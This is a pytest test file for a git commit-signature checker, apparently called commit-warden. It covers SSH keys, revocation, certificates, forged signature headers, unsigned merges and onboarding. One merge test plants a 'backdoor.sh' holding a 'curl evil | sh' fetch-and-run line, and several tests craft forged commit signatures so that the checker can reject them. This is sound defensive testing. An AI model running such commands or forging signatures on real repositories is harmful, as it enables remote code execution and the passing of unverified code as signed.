    assert git('log', '-1', '--format=%G?', x, cwd=repo, input=None).stdout.strip() in (
        'G',
        'U',
        'N',
    )
    assert git('cat-file', 'commit', x, cwd=repo).stdout.count('gpgsig') == 1
    code, out = run(capsys, '--from', base, '--to', x)
    assert (code, out.splitlines()[0]) == (
        1,
        f'(commit {x[:12]}) {x[:12]} "the real X": the commit is not signed [unsigned]',
    )
    # The verdict was cached for X's real object: still unsigned without the replace
    # ref, and the twin, judged as itself, passes.
    git('replace', '-d', x, cwd=repo)
    assert run(capsys, '--from', base, '--to', x)[0] == 1
    cache = json.loads((repo / '.git' / 'commit-warden' / 'signatures-cache.json').read_text())
    (entries,) = cache['data'].values()
    assert entries[x][0] == 'unsigned'
    assert run(capsys, '--from', base, '--to', twin) == (0, '')
    # Grafts: X's child claims base as its parent; the real parent X is still judged.
    git('checkout', '-q', x, cwd=repo)
    child = commit(repo, 'child of X')
    write(repo / '.git' / 'info' / 'grafts', f'{child} {base}\n')
    assert x not in git('rev-list', f'{base}..{child}', cwd=repo).stdout
    code, out = run(capsys, '--from', base, '--to', child)
    assert code == 1 and f'(commit {x[:12]})' in out and '[unsigned]' in out


@pytest.mark.parametrize('form', slow_after(1, ['krl', 'list']))
def test_revocation_by_krl_or_list_is_revoked(repo, keyring, capsys, form, tmp_path):
    if form == 'krl':
        _run('ssh-keygen', '-q', '-k', '-f', str(repo / '.revoked'), f'{keyring.primary}.pub')
    else:
        write(repo / '.revoked', Path(f'{keyring.primary}.pub').read_text())
    base = ssh_policy(
        repo, f'alice@example.com {keyring.pub(keyring.primary)}\n', '  revoked_signers: .revoked\n'
    )
    sign_with(repo, keyring.primary)
    sha = commit(repo, 'revoked')
    code, out = run(capsys, '--from', base, '--to', sha)
    assert code == 1
    what = (
        'the key is revoked by the KRL .revoked in the working tree'
        if form == 'krl'
        else 'the key is listed in .revoked in the working tree'
    )
    assert out.splitlines()[0] == (
        f'(commit {sha[:12]}) {sha[:12]} "revoked": signed with a revoked SSH key '
        f'{keyring.fingerprint(keyring.primary)} ({what}) [revoked]'
    )
    # Another key is not affected by the revocation.
    write(
        repo / '.allowed_signers',
        f'alice@example.com {keyring.pub(keyring.primary)}\n'
        f'alice@example.com {keyring.pub(keyring.ecdsa)}\n',
    )
    sign_with(repo, keyring.ecdsa)
    other = commit(repo, 'other key')
    assert run(capsys, '--from', sha, '--to', other) == (0, '')


def test_a_revocation_file_ssh_keygen_cannot_read_stops_everything(repo, keyring, capsys):
    write(repo / '.revoked', 'serial: 1-10\n' + Path(f'{keyring.untrusted}.pub').read_text())
    base = ssh_policy(
        repo, f'alice@example.com {keyring.pub(keyring.primary)}\n', '  revoked_signers: .revoked\n'
    )
    sign_with(repo, keyring.primary)
    sha = commit(repo, 'signed')
    code, out = run(capsys, '--from', base, '--to', sha)
    assert code == 2
    assert out == (
        'check-signatures: error: signatures.revoked_signers: .revoked in the working tree: '
        'line 1 is not a public key (a text revocation file is a list of public keys; KRL '
        'specifications such as `serial:` or `sha256:` must be compiled with `ssh-keygen '
        '-k`); ssh-keygen then rejects every SSH signature, so nothing could be judged\n'
    )


def _signed_raw(repo: Path) -> bytes:
    return git('cat-file', 'commit', 'HEAD', cwd=repo).stdout.encode()


def _hash(repo: Path, raw: bytes) -> str:
    return git('hash-object', '-w', '-t', 'commit', '--stdin', cwd=repo, input=raw).stdout.strip()


@pytest.mark.parametrize(
    ('shape', 'words'),
    slow_after(
        1,
        [
            ('two headers', 'the commit carries 2 signature headers; a commit has one'),
            ('two in one header', 'the signature header holds 2 signatures; a commit has one'),
            ('other content', 'ssh-keygen: Signature verification failed: incorrect signature'),
            ('garbage armor', 'ssh-keygen: Couldn'),
            ('unknown format', 'the signature is in a format git does not recognise'),
        ],
        several=True,
    ),
)
def test_malformed_or_doubled_signatures_are_bad(repo, keyring, capsys, shape, words):
    base = ssh_policy(repo, f'alice@example.com {keyring.pub(keyring.primary)}\n')
    sign_with(repo, keyring.primary)
    commit(repo, 'first')
    first = _signed_raw(repo)
    commit(repo, 'second')
    raw = _signed_raw(repo)
    _, sig = _unfold_signature(raw)
    _, other_sig = _unfold_signature(first)
    body, _ = _unfold_signature(raw)
    if shape == 'two headers':
        forged = _with_header(_with_header(body, b'gpgsig', other_sig), b'gpgsig', sig)
    elif shape == 'two in one header':
        forged = _with_header(body, b'gpgsig', sig + other_sig)
    elif shape == 'other content':
        forged = _with_header(body, b'gpgsig', other_sig)
    elif shape == 'garbage armor':
        forged = _with_header(
            body,
            b'gpgsig',
            b'-----BEGIN SSH SIGNATURE-----\nU1NIU0lH\n-----END SSH SIGNATURE-----\n',
        )
    else:
        forged = _with_header(body, b'gpgsig', b'trust me\n')
    sha = _hash(repo, forged)
    git('update-ref', 'refs/heads/main', sha, cwd=repo)
    code, out = run(capsys, '--from', base, '--to', sha)
    assert code == 1
    first_line = next(line for line in out.splitlines() if line.startswith(f'(commit {sha[:12]})'))
    assert words in first_line and first_line.endswith('[bad-signature]'), first_line


@pytest.fixture
def ssh_agent(monkeypatch: pytest.MonkeyPatch) -> Iterator[None]:
    """A real ssh-agent for this test (t7528: 'sign commits using literal public keys
    with ssh-agent'); stopped by its pid afterwards."""
    out = _run('ssh-agent', '-s').decode()
    values = dict(part.split('=', 1) for part in out.replace(';', '\n').split() if '=' in part)
    monkeypatch.setenv('SSH_AUTH_SOCK', values['SSH_AUTH_SOCK'])
    pid = int(values['SSH_AGENT_PID'])
    try:
        yield
    finally:
        os.kill(pid, signal.SIGTERM)


@pytest.mark.slow
def test_pre_commit_follows_git_to_an_agent_key(repo, keyring, capsys, ssh_agent):
    """No user.signingkey: git signs with gpg.ssh.defaultKeyCommand's first key (from
    the ssh-agent); the set-up check asks the same command, and the range agrees."""
    key = keyring.pub(keyring.primary)
    base = ssh_policy(
        repo, f'alice@example.com {key}\nalice@example.com {keyring.pub(keyring.ecdsa)}\n'
    )
    git('config', 'gpg.format', 'ssh', cwd=repo)
    git('config', 'gpg.ssh.defaultKeyCommand', 'ssh-add -L', cwd=repo)
    git('config', 'commit.gpgsign', 'true', cwd=repo)
    # git takes the command's first line only if it starts with `ssh-` or `key::`: an
    # ECDSA key (`ecdsa-sha2-...`) is refused by git, and so by the check.
    _run('ssh-add', '-q', str(keyring.ecdsa))
    code, out = run(capsys)
    assert code == 1
    assert 'gpg.ssh.defaultKeyCommand (ssh-add -L) returned no key' in out
    assert (
        git(
            'commit', '-q', '--allow-empty', '--no-verify', '-m', 'x', cwd=repo, check=False
        ).returncode
        != 0
    )
    _run('ssh-add', '-D')
    _run('ssh-add', '-q', str(keyring.primary))
    assert run(capsys) == (0, '')
    sha = commit(repo, 'agent-signed')
    assert run(capsys, '--from', base, '--to', sha) == (0, '')
    # literal keys, as git accepts them: `key::...` and a bare `ssh-...`
    for value in (f'key::{key}', key):
        git('config', 'user.signingkey', value, cwd=repo)
        assert run(capsys) == (0, '')
        sha = commit(repo, 'literal key')
        assert run(capsys, '--from', base, '--to', sha) == (0, '')
    # A key the agent does not hold: git could not sign with it, and says so first.
    git('config', 'user.signingkey', f'key::{keyring.pub(keyring.untrusted)}', cwd=repo)
    code, out = run(capsys)
    assert code == 1
    assert 'which your ssh-agent does not hold, and no private key file is beside it' in out
    # An agent key the policy does not trust: named, with the line to get it trusted.
    git('config', '--unset', 'user.signingkey', cwd=repo)
    _run('ssh-add', '-D')
    _run('ssh-add', '-q', str(keyring.untrusted))
    code, out = run(capsys)
    assert code == 1
    fpr = keyring.fingerprint(keyring.untrusted)
    assert out.splitlines()[0] == (
        f'the next commit will not pass check-signatures: your key {fpr} is not trusted for '
        'alice@example.com in .allowed_signers in the working tree [signing-key]'
    )
    assert out.splitlines()[-1] == (
        f'      alice@example.com namespaces="git" {keyring.pub(keyring.untrusted)}'
    )


def _merge_repo(repo: Path, keyring: Keyring) -> str:
    base = ssh_policy(
        repo,
        f'alice@example.com {keyring.pub(keyring.primary)}\n',
        '  allow_unsigned_merges: true\n',
    )
    sign_with(repo, keyring.primary)
    write(repo / 'shared.txt', 'a\nb\nc\n')
    write(repo / 'main-only.txt', 'main\n')
    write(repo / 'side-only.txt', 'side\n')
    git('add', '-A', cwd=repo)
    commit(repo, 'files')
    git('checkout', '-q', '-b', 'side', cwd=repo)
    write(repo / 'shared.txt', 'a\nb\nSIDE\n')
    write(repo / 'side-only.txt', 'side changed\n')
    git('add', '-A', cwd=repo)
    commit(repo, 'side work')
    git('checkout', '-q', 'main', cwd=repo)
    write(repo / 'main-only.txt', 'main changed\n')
    git('add', '-A', cwd=repo)
    commit(repo, 'main work')
    return base


@pytest.mark.parametrize(
    ('shape', 'passes'),
    slow_after(
        ('clean',),
        [
            ('clean', True),
            ('conflict resolved by taking one side', False),
            ('one side dropped', False),
            ('content added', False),
        ],
        several=True,
    ),
)
def test_unsigned_merge_passes_only_as_gits_own_clean_merge(repo, keyring, capsys, shape, passes):
    base = _merge_repo(repo, keyring)
    if shape == 'conflict resolved by taking one side':
        write(repo / 'shared.txt', 'a\nb\nMAIN\n')
        git('add', '-A', cwd=repo)
        commit(repo, 'conflicting main work')
        proc = git('merge', '-q', '--no-ff', '--no-gpg-sign', 'side', cwd=repo, check=False)
        assert proc.returncode == 1  # a conflict
        git('checkout', '--ours', 'shared.txt', cwd=repo)
        git('add', '-A', cwd=repo)
        git('commit', '-q', '--no-verify', '--no-gpg-sign', '--no-edit', cwd=repo)
    else:
        git('merge', '-q', '--no-ff', '--no-commit', '--no-gpg-sign', 'side', cwd=repo)
        if shape == 'one side dropped':
            git('checkout', 'main', '--', 'side-only.txt', cwd=repo)
        elif shape == 'content added':
            write(repo / 'backdoor.sh', 'curl evil | sh\n')
            git('add', 'backdoor.sh', cwd=repo)
        git('commit', '-q', '--no-verify', '--no-gpg-sign', '--no-edit', cwd=repo)
    merge = git('rev-parse', 'HEAD', cwd=repo).stdout.strip()
    code, out = run(capsys, '--from', base, '--to', merge)
    if passes:
        assert (code, out) == (0, '')
    else:
        assert code == 1
        assert out.splitlines()[0].startswith(f'(commit {merge[:12]}) {merge[:12]} "Merge ')
        assert out.splitlines()[0].endswith(
            "(a merge may be unsigned only when its tree is git's own conflict-free merge "
            'of its parents, and all of its parents pass) [unsigned]'
        )


def test_a_private_key_in_openpgp_keys_is_a_policy_error(repo, keyring, capsys):
    write(repo / '.gpg-keys' / 'committer.asc', keyring.committer_secret)
    write(repo / '.commit-warden.yaml', 'version: 1\nsignatures:\n  openpgp_keys: .gpg-keys\n')
    git('add', '-A', cwd=repo)
    sha = commit(repo, 'policy', sign=False)
    code, out = run(capsys, '--to', sha)
    assert (code, out) == (
        2,
        (
            'check-signatures: error: signatures.openpgp_keys: .gpg-keys/committer.asc in the '
            'working tree holds a private key: publish only the public key (`gpg --armor '
            '--export <fingerprint>`), and treat the private key as leaked (revoke it and make a '
            'new one)\n'
        ),
    )
    # A binary (unarmored) secret key is found by gpg too.
    write(
        repo / '.gpg-keys' / 'committer.asc',
        keyring.gpg('--dearmor', stdin=keyring.committer_secret),
    )
    assert run(capsys, '--to', sha)[0] == 2


def _random_lines(n: int) -> bytes:
    """n valid allowed_signers lines for throw-away ed25519 keys (no key pair needed:
    ssh-keygen reads a public key from its 32 bytes)."""
    prefix = b'\x00\x00\x00\x0bssh-ed25519\x00\x00\x00\x20'
    return b''.join(
        b'user%d@example.com namespaces="git" ssh-ed25519 %s\n'
        % (i, base64.b64encode(prefix + os.urandom(32)))
        for i in range(n)
    )


@pytest.mark.slow
def test_a_large_allowed_signers_is_scanned_once_per_policy(repo, keyring, capsys):
    lines = _random_lines(20_000).split(b'\n')
    lines[14_999] = lines[14_999].replace(b'namespaces="git"', b'frobnicate')
    data = b'\n'.join(lines) + f'alice@example.com {keyring.pub(keyring.primary)}\n'.encode()
    write(repo / '.allowed_signers', data)
    write(
        repo / '.commit-warden.yaml',
        'version: 1\nsignatures:\n  allowed_signers: .allowed_signers\n',
    )
    git('add', '-A', cwd=repo)
    base = commit(repo, 'policy', sign=False)
    sign_with(repo, keyring.primary)
    sha = commit(repo, 'signed')
    note = (
        'note: .allowed_signers:15000: ssh-keygen rejects this line (bad options: unknown '
        'key option), so it trusts nobody; allowed_signers options are cert-authority, '
        'namespaces=, valid-after= and valid-before='
    )
    assert run(capsys, '--from', base, '--to', sha) == (0, note + '\n')
    # The scan is kept per policy hash: a later run reads it, not the file.
    scan = repo / '.git' / 'commit-warden' / 'trust-scan.json'
    data = json.loads(scan.read_text())
    (entry,) = data['data'].values()
    assert entry['notes'] == [['.allowed_signers', 15000, note.split(': ', 2)[2]]]
    entry['notes'][0][2] = 'from the cache'
    scan.write_text(json.dumps(data))
    assert run(capsys, '--from', base, '--to', sha) == (
        0,
        'note: .allowed_signers:15000: from the cache\n',
    )
    # A changed file is another policy: scanned again.
    with open(repo / '.allowed_signers', 'ab') as f:
        f.write(b'# one more line\n')
    assert run(capsys, '--from', base, '--to', sha)[1] == note + '\n'


def test_a_binary_trust_file_is_one_policy_error(repo, keyring, capsys):
    write(repo / '.allowed_signers', os.urandom(300_000) + b'\0')
    write(
        repo / '.commit-warden.yaml',
        'version: 1\nsignatures:\n  allowed_signers: .allowed_signers\n',
    )
    sign_with(repo, keyring.primary)
    sha = commit(repo, 'signed')
    code, out = run(capsys, '--to', sha)
    assert (code, out) == (
        2,
        (
            'check-signatures: error: signatures.allowed_signers: .allowed_signers in the working '
            'tree is not a text file (it holds NUL bytes): ssh-keygen can read no signer from it, '
            'so it trusts nobody; point the policy at an allowed_signers file (`principals '
            '[options] keytype key`, one per line)\n'
        ),
    )


@pytest.mark.slow
def test_a_bom_is_read_as_ssh_keygen_reads_it(repo, keyring, capsys):
    base = ssh_policy(repo, '\ufeff' + f'alice@example.com {keyring.pub(keyring.primary)}\n')
    sign_with(repo, keyring.primary)
    sha = commit(repo, 'signed')
    code, out = run(capsys, '--from', base, '--to', sha)
    assert code == 1
    lines = out.splitlines()
    assert lines[0] == (
        f'(commit {sha[:12]}) {sha[:12]} "signed": signed by \\ufeffalice@example.com (SSH key '
        f'{keyring.fingerprint(keyring.primary)}), but committed by alice@example.com '
        '[signer-mismatch]'
    )
    assert lines[-1] == (
        'note: .allowed_signers:1: the file starts with a UTF-8 byte-order mark, which '
        'ssh-keygen reads as part of the first principal ("\\ufeffalice@example.com"); save '
        "it without one (e.g. `sed -i '1s/^\\xEF\\xBB\\xBF//' .allowed_signers`)"
    )


@pytest.mark.parametrize(
    ('when', 'principals', 'rule', 'words'),
    slow_after(
        1,
        [
            ('2005-02-01', 'alice@example.com', None, ''),
            (
                '2006-02-01',
                'alice@example.com',
                'expired',
                'committed 2006-02-01 12:00 UTC, but the certificate is valid from '
                '2005-01-01T00:00:00 to 2005-03-01T00:00:00',
            ),
            ('2005-02-01', 'bob@example.com', 'signer-mismatch', 'signed by bob@example.com'),
        ],
        several=True,
    ),
)
def test_ssh_certificates(repo, keyring, capsys, monkeypatch, when, principals, rule, words):
    base = ssh_policy(repo, f'alice@example.com cert-authority {keyring.pub(keyring.ca)}\n')
    cert = keyring.certificate(
        keyring.timeboxedvalid, principals, '20050101:20050301', f'cert-{principals.split("@")[0]}'
    )
    sign_with(repo, cert)
    monkeypatch.setenv('GIT_COMMITTER_DATE', f'{when}T12:00:00Z')
    sha = commit(repo, 'with a certificate')
    code, out = run(capsys, '--from', base, '--to', sha)
    if rule is None:
        assert (code, out) == (0, '')
    else:
        assert code == 1
        assert out.splitlines()[0].endswith(f'[{rule}]')
        assert words in out.splitlines()[0]


@pytest.mark.slow
def test_a_cert_authority_never_vouches_for_its_own_key(repo, keyring, capsys):
    base = ssh_policy(repo, f'alice@example.com cert-authority {keyring.pub(keyring.ca)}\n')
    sign_with(repo, keyring.ca)
    sha = commit(repo, 'signed by the CA key itself')
    code, out = run(capsys, '--from', base, '--to', sha)
    assert code == 1
    assert out.splitlines()[0].endswith(
        ': .allowed_signers:1 lists this key as a cert-authority: it vouches for certificates '
        'it signed, never for its own signatures [unknown-key]'
    )


@pytest.mark.slow
def test_namespaces_and_negated_patterns_are_ssh_keygens(repo, keyring, capsys, monkeypatch):
    key = keyring.pub(keyring.primary)
    base = ssh_policy(
        repo,
        f'alice@example.com namespaces="file" {key}\n'
        f'!alice@example.com,*@example.com {keyring.pub(keyring.ecdsa)}\n',
    )
    sign_with(repo, keyring.primary)
    sha = commit(repo, 'file namespace only')
    code, out = run(capsys, '--from', base, '--to', sha)
    assert code == 1
    assert out.splitlines()[0].endswith(
        ': .allowed_signers:1 in the working tree lists the key for alice@example.com, but not '
        'for git signatures (its namespaces= option excludes "git") [unknown-key]'
    )
    sign_with(repo, keyring.ecdsa)
    sha2 = commit(repo, 'negated for alice')
    code, out = run(capsys, '--from', sha, '--to', sha2)
    assert code == 1 and out.splitlines()[0].endswith('[signer-mismatch]')
    monkeypatch.setenv('GIT_COMMITTER_EMAIL', 'bob@example.com')
    sha3 = commit(repo, 'bob matches the pattern')
    assert run(capsys, '--from', sha2, '--to', sha3) == (0, '')


def test_policy_ref_reads_trust_from_the_base_and_says_so(repo, keyring, capsys):
    base = ssh_policy(repo, f'alice@example.com {keyring.pub(keyring.primary)}\n')
    git('checkout', '-q', '-b', 'feature', cwd=repo)
    with open(repo / '.allowed_signers', 'a') as f:
        f.write(f'alice@example.com {keyring.pub(keyring.untrusted)}\n')
    git('add', '-A', cwd=repo)
    sign_with(repo, keyring.untrusted)
    sha = commit(repo, 'trust my new key')
    code, out = run(capsys, '--policy-ref', 'main', '--from', base, '--to', sha)
    assert code == 1
    lines = out.splitlines()
    assert lines[0].endswith(
        'which is not trusted in the allowed signers at main (.allowed_signers) [unknown-key]'
    )
    assert lines[1] == (
        '    the range adds this key to .allowed_signers, but trust is read at '
        'main: a change cannot vouch for its own signer; get the key added in '
        'a separate, reviewed change first'
    )


def test_config_and_check_warden_config_report_rejected_lines(repo, keyring, capsys):
    from hooks import check_config
    from hooks import cli

    write(
        repo / '.allowed_signers',
        f'alice@example.com {keyring.pub(keyring.primary)}\n'
        f'bob@example.com valid-before=2030 '
        f'{keyring.pub(keyring.ecdsa)}\n',
    )
    write(
        repo / '.commit-warden.yaml',
        'version: 1\nsignatures:\n  allowed_signers: .allowed_signers\n',
    )
    rejected = (
        'ssh-keygen rejects this line (bad options: missing start quote), so it trusts '
        'nobody; option values must be quoted, e.g. valid-before="20270101"'
    )
    assert cli.main(['config']) == 2
    out, err = capsys.readouterr()
    assert (out, err) == (
        '',
        f'.allowed_signers:2: {rejected}\n'
        'commit-warden: the files the policy names have 1 problem\n',
    )
    git('add', '-A', cwd=repo)
    assert check_config.main(['.commit-warden.yaml']) == 1
    out, _ = capsys.readouterr()
    assert out == f'.allowed_signers:2: {rejected} [invalid-config]\n'
    write(repo / '.allowed_signers', f'alice@example.com {keyring.pub(keyring.primary)}\n')
    assert check_config.main(['.commit-warden.yaml']) == 0
    assert cli.main(['config']) == 0


def test_trust_files_of_a_check_that_is_off_are_not_judged(repo, keyring, capsys):
    from hooks import check_config
    from hooks import cli

    write(
        repo / '.allowed_signers',
        f'bob@example.com valid-before=2030 {keyring.pub(keyring.ecdsa)}\n',
    )
    write(
        repo / '.commit-warden.yaml',
        'version: 1\nchecks:\n  check-signatures: off\n'
        'signatures:\n  allowed_signers: .allowed_signers\n',
    )
    git('add', '-A', cwd=repo)
    assert cli.main(['config']) == 0
    assert check_config.main(['.commit-warden.yaml']) == 0
    capsys.readouterr()
    # Switched to warn, the check runs, and so does the judgement of its files.
    write(
        repo / '.commit-warden.yaml',
        'version: 1\nchecks:\n  check-signatures: warn\n'
        'signatures:\n  allowed_signers: .allowed_signers\n',
    )
    git('add', '-A', cwd=repo)
    assert cli.main(['config']) == 2
    assert check_config.main(['.commit-warden.yaml']) == 1
    assert '.allowed_signers:1: ssh-keygen rejects this line' in capsys.readouterr().out


# --- onboarding: a new developer, one command, never a blocked commit ---------------------


@pytest.mark.slow
def test_onboarding_from_a_fresh_clone_never_blocks_a_commit(
    tmp_path, keyring, capsys, monkeypatch, pre_commit_home, hook_repo
):
    """An admin's repository requires signatures; a new developer clones it, runs
    `commit-warden signing setup`, sends the printed line; the admin commits it; the
    developer's first commit (through the real pre-commit hooks) and push pass."""
    from hooks import cli

    admin = tmp_path / 'admin'
    origin = tmp_path / 'origin.git'
    git('init', '-q', '--bare', str(origin), cwd=tmp_path)
    git('clone', '-q', str(origin), str(admin), cwd=tmp_path)
    monkeypatch.setenv('PRE_COMMIT_HOME', str(pre_commit_home))
    path, rev = hook_repo
    write(
        admin / '.pre-commit-config.yaml',
        'default_install_hook_types: [pre-commit, commit-msg, pre-push]\n'
        f'repos:\n- repo: {path}\n  rev: {rev}\n  hooks:\n  - id: check-signatures\n',
    )
    write(
        admin / '.allowed_signers',
        f'admin@example.com namespaces="git" {keyring.pub(keyring.secondary)}\n',
    )
    write(
        admin / '.commit-warden.yaml',
        'version: 1\nsignatures:\n  allowed_signers: .allowed_signers\n',
    )
    admin_env = (
        '-c',
        'user.email=admin@example.com',
        '-c',
        'user.name=Admin',
        '-c',
        'gpg.format=ssh',
        '-c',
        f'user.signingkey={keyring.secondary}',
    )
    git('add', '-A', cwd=admin)
    git(*admin_env, 'commit', '-q', '-S', '-m', 'policy', cwd=admin)
    git('push', '-q', 'origin', 'HEAD:main', cwd=admin)

    # The new developer: no SSH key, no signing configuration.
    dev = tmp_path / 'dev'
    git('clone', '-q', str(origin), str(dev), cwd=tmp_path)
    monkeypatch.chdir(dev)
    monkeypatch.setenv('GIT_COMMITTER_EMAIL', 'dev@example.com')
    monkeypatch.setenv('GIT_AUTHOR_EMAIL', 'dev@example.com')
    git('config', 'user.email', 'dev@example.com', cwd=dev)
    exe = Path(sys.executable).parent
    monkeypatch.setenv('PATH', f'{exe}{os.pathsep}{os.environ["PATH"]}')
    proc = subprocess.run(
        (str(exe / 'pre-commit'), 'install'), cwd=dev, capture_output=True, text=True, check=False
    )
    assert proc.returncode == 0, proc.stdout + proc.stderr
    assert not (Path.home() / '.ssh').exists()

    assert cli.main(['signing', 'setup']) == 0
    out = capsys.readouterr().out
    made = Path.home() / '.ssh' / 'id_ed25519.pub'
    public = ' '.join(made.read_text().split()[:2])
    line = f'dev@example.com namespaces="git" {public}'
    assert f'    {line}\n' in out
    assert 'A pull request of your own that adds the line cannot vouch for itself' in out
    assert git('config', 'commit.gpgsign', cwd=dev).stdout.strip() == 'true'
    assert git('config', 'gpg.format', cwd=dev).stdout.strip() == 'ssh'
    # Status says what is left, and that it is the admin's part.
    assert cli.main(['signing', 'status']) == 1
    assert line in capsys.readouterr().out

    # The admin adds the line, in a commit of their own, signed by a trusted key.
    with open(admin / '.allowed_signers', 'a') as f:
        f.write(line + '\n')
    git('add', '-A', cwd=admin)
    git(*admin_env, 'commit', '-q', '-S', '-m', 'trust dev', cwd=admin)
    git('push', '-q', 'origin', 'HEAD:main', cwd=admin)

    git('pull', '-q', '--ff-only', cwd=dev)
    assert cli.main(['signing', 'status']) == 0
    assert capsys.readouterr().out.startswith('ok: the next commit will be signed with SSH key')
    write(dev / 'feature.txt', 'my first change\n')
    git('add', 'feature.txt', cwd=dev)
    proc = git('commit', '-m', 'my first change', cwd=dev, check=False)
    assert proc.returncode == 0, proc.stdout + proc.stderr
    assert (
        '\ngpgsig -----BEGIN SSH SIGNATURE-----'
        in git('cat-file', 'commit', 'HEAD', cwd=dev).stdout
    )
    proc = git('push', 'origin', 'HEAD:main', cwd=dev, check=False)
    assert proc.returncode == 0, proc.stdout + proc.stderr


@pytest.mark.slow
def test_pre_commit_with_a_certificate_asks_ssh_keygen(repo, keyring, capsys, monkeypatch):
    base = ssh_policy(repo, f'alice@example.com cert-authority {keyring.pub(keyring.ca)}\n')
    del base
    git('config', 'commit.gpgsign', 'true', cwd=repo)
    good = keyring.certificate(
        keyring.timeboxedinvalid, 'alice@example.com', 'always:forever', 'cert-alice-forever'
    )
    sign_with(repo, good)
    assert run(capsys) == (0, '')
    old = keyring.certificate(
        keyring.timeboxedinvalid, 'alice@example.com', '20050101:20050301', 'cert-alice-2005'
    )
    sign_with(repo, old)
    code, out = run(capsys)
    assert code == 1
    assert 'is not valid now for alice@example.com: it is' in out.splitlines()[0]
    assert 'but the certificate is valid from 2005-01-01T00:00:00 to 2005-03-01T00:00:00' in out


@pytest.mark.slow
def test_a_latin1_comment_is_still_text(repo, keyring, capsys):
    base = ssh_policy(repo, '')
    write(
        repo / '.allowed_signers',
        b'# Fran\xe7ois keeps this file\n'
        + f'alice@example.com {keyring.pub(keyring.primary)}\n'.encode(),
    )
    sign_with(repo, keyring.primary)
    sha = commit(repo, 'signed')
    assert run(capsys, '--from', base, '--to', sha) == (0, '')


def test_signing_setup_uses_a_key_you_have_and_says_when_it_is_trusted(repo, keyring, capsys):
    from hooks import cli

    base = ssh_policy(repo, f'alice@example.com namespaces="git" {keyring.pub(keyring.primary)}\n')
    ssh = Path.home() / '.ssh'
    ssh.mkdir(mode=0o700)
    shutil.copy(keyring.primary, ssh / 'id_ed25519')
    shutil.copy(f'{keyring.primary}.pub', ssh / 'id_ed25519.pub')
    before = (ssh / 'id_ed25519').read_bytes()
    assert cli.main(['signing', 'setup']) == 0
    out = capsys.readouterr().out
    fpr = keyring.fingerprint(keyring.primary)
    assert out == (
        f'using SSH key {fpr} (~/.ssh/id_ed25519.pub) to sign as alice@example.com\n'
        '  git config gpg.format ssh\n'
        f'  git config user.signingkey {ssh / "id_ed25519.pub"}\n'
        '  git config commit.gpgsign true\n'
        'ok: .allowed_signers in the working tree trusts this key for alice@example.com: '
        'your next commit will pass check-signatures\n'
    )
    assert (ssh / 'id_ed25519').read_bytes() == before
    # Run again: nothing to change, and nothing overwritten.
    assert cli.main(['signing', 'setup']) == 0
    assert '(git was already configured to sign with it)' in capsys.readouterr().out
    sha = commit(repo, 'first signed commit')
    assert run(capsys) == (0, '')
    assert run(capsys, '--from', base, '--to', sha) == (0, '')
